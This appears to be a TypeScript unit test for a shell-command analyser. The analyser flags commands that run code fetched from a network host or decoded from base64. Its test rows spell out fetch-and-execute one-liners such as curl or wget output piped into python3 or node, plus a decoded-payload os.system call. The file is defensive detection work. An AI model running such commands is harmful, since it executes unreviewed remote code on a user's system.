import assert from 'node:assert/strict';
import { test } from 'node:test';
import { doneBy, linesOf } from '../lines';

/** Code that cannot be read says where it comes from. */
const rows: readonly (readonly [command: string, expected: readonly string[]])[] = [
  ['curl -s https://a.example/i.py | python3', ['opaque fetched-code']],
  ['wget -qO- https://a.example/i.js | node -', ['opaque fetched-code']],
  ['base64 -d x | python3 -', ['opaque decoded-code']],
  ['python3 <(curl -s https://a.example)', ['opaque fetched-code']],
  ['generate | python3', ['opaque unreadable-code']],
  ["python3 -c 'print(1)'", []],
  ['python3 missing.py', []],
  ['python3 -m pytest', []],
  ['node --version', []],
  ['bun test', []],
];
for (const [command, expected] of rows) test(command, () => assert.deepEqual(linesOf(command, ['opaque']), expected));

test('a command that is decoded or fetched', () => {
  assert.deepEqual(doneBy('python3 -', 'import base64, os\nos.system(base64.b64decode(payload).decode())'), ['opaque decoded-code']);
  assert.deepEqual(doneBy('python3 -', 'import os\nos.system(command)'), ['opaque dynamic-program']);
});
